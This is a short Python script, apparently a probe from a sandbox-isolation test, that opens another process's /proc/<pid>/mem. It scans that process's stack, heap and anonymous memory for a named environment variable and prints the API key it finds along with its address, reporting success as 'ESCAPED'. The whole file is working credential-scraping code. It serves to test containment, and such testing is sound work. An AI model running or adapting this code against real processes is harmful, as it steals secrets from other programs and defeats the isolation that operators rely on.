"""proc: read the server's memory through /proc/<pid>/mem (stack, heap, anonymous mappings) and
pull its API key out of it.
"""

import os
import re

SERVER_PID = int("__SERVER_PID__")
NAME = b"__SECRET_ENV__"
found = []
try:
    with open(f"/proc/{SERVER_PID}/maps") as f:
        maps = f.read().splitlines()
    print(f"{len(maps)} mappings")
except OSError as exc:
    print(f"maps: {exc.strerror}")
    maps = []
budget = 64 << 20
try:
    mem = os.open(f"/proc/{SERVER_PID}/mem", os.O_RDONLY)
except OSError as exc:
    print(f"mem: {exc.strerror}")
    mem = None
if mem is not None:
    for line in maps:
        fields = line.split()
        if "r" not in fields[1] or (len(fields) > 5 and not fields[5].startswith("[")):
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        size = min(end - start, budget)
        if size <= 0:
            break
        budget -= size
        try:
            data = os.pread(mem, size, start)
        except (OSError, OverflowError):
            continue
        for m in re.finditer(re.escape(NAME) + rb"=([ -~]{4,200})", data):
            found.append(f"{m.group(0).decode()} at {start + m.start():#x}")
    os.close(mem)
if found:
    print("ESCAPED: read the server's memory: " + "; ".join(dict.fromkeys(found)))
